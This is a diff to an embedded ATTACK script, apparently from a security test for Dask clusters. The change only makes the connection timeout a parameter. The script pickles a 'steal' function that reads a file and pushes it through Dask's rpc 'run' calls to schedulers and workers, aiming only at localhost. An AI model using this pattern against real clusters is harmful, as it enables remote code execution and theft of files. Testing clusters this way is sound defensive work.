@@ -81,19 +81,19 @@ ATTACK = """
         with open(path) as file:
             return file.read()
 
-    async def attempt(address, security):
+    async def attempt(address, security, timeout):
         call = {"function": cloudpickle.dumps(steal), "args": cloudpickle.dumps((wanted,))}
         for name in ("run", "run_function"):  # as workers and nannies, and as schedulers call it
-            async with rpc(address, connection_args=security, timeout=20) as remote:
+            async with rpc(address, connection_args=security, timeout=timeout) as remote:
                 try:
                     return (await getattr(remote, name)(**call))["result"]
                 except (AttributeError, TypeError, ValueError) as error:
                     missing = error
         raise missing
 
-    def steal_by(address, security):
+    def steal_by(address, security, timeout=20):
         try:
-            return str(asyncio.run(asyncio.wait_for(attempt(address, security), 20)))
+            return str(asyncio.run(asyncio.wait_for(attempt(address, security, timeout), timeout)))
         except BaseException as error:
             return f"refused: {type(error).__name__}"
 
@@ -103,7 +103,7 @@ ATTACK = """
     with LocalCluster(n_workers=1, processes=False, protocol="tcp", dashboard_address="127.0.0.1:0",
                       worker_dashboard_address="127.0.0.1:0") as warm:
         steal_by(warm.scheduler_address, arguments[0])
-    steal_by("tls://127.0.0.1:1", arguments[1])
+    steal_by("tls://127.0.0.1:1", arguments[1], 0.5)  # Dask tries until the time is over
     os.setgroups([]); os.setgid(65534); os.setuid(65534)
     found = {}
     try:
